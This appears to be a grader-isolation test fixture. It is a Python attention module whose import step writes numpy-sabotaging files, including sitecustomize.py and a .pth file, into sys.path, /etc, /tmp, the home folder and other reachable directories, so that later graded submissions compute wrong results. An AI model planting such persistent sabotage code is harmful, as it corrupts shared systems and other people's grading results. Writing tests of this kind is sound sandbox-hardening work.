"""At import, writes modules that would sabotage numpy (and so every later head) into every
directory it can reach: each folder on sys.path, the sandbox's site folder, /, /opt, /etc,
/dev, /tmp, /dev/shm, /var/tmp, its own folder and the working directory, as random.py,
hashlib.py, json.py, numpy.py, sitecustomize.py and a .pth file. A later worker that
imports any of them for the first time after the fork would answer wrongly. The head
itself is the lesson's, so it keeps full marks; those graded after it must too."""
# must-fail:
# must-pass: *
# report-status: graded

import os
import sys

import numpy as np

MARKER = "planted by writes_modules_everywhere_at_import"
SABOTAGE = f'''# {MARKER}
import sys
_numpy = sys.modules.get("numpy")
if _numpy is not None:
    _numpy.exp = lambda x, *args, **kwargs: _numpy.ones_like(x)  # uniform weights for everyone
    _numpy.sqrt = lambda x, *args, **kwargs: 1.0                 # and no scale
'''
NAMES = ("random.py", "hashlib.py", "json.py", "numpy.py", "traceback.py", "signal.py", "ctypes.py",
         "sitecustomize.py", "usercustomize.py", "wire.py", "worker.py")


def _folders():
    found = [p for p in sys.path if p] + [os.getcwd(), os.path.dirname(os.path.abspath(__file__)),
                                          "/", "/opt", "/opt/grader-site", "/etc", "/dev", "/tmp", "/dev/shm",
                                          "/var/tmp", "/usr/local/lib", os.path.expanduser("~")]
    return list(dict.fromkeys(found))


def _plant():
    if __name__ != "attention":
        return  # only as a graded submission: opening this file by hand does nothing
    for folder in _folders():
        for name in NAMES:
            try:
                with open(os.path.join(folder, name), "w") as stream:
                    stream.write(SABOTAGE)
            except OSError:
                pass
        try:
            with open(os.path.join(folder, "zz_planted.pth"), "w") as stream:
                stream.write(f"import sys; sys.modules.setdefault('{MARKER.split()[-1]}', sys)\n")
        except OSError:
            pass


_plant()


def softmax(x, axis=-1):
    x = x - x.max(axis=axis, keepdims=True)
    e = np.exp(x)
    return e / e.sum(axis=axis, keepdims=True)


def attention(Q, K, V, mask=None):
    d_k = Q.shape[-1]
    scores = (Q @ np.swapaxes(K, -1, -2)) / np.sqrt(d_k)
    if mask is not None:
        scores = np.where(mask, scores, -np.inf)
    A = softmax(scores, axis=-1)
    return A @ V, A


def self_attention(X, Wq, Wk, Wv, mask=None):
    return attention(X @ Wq, X @ Wk, X @ Wv, mask)


def causal_mask(n):
    return np.tril(np.ones((n, n), dtype=bool))
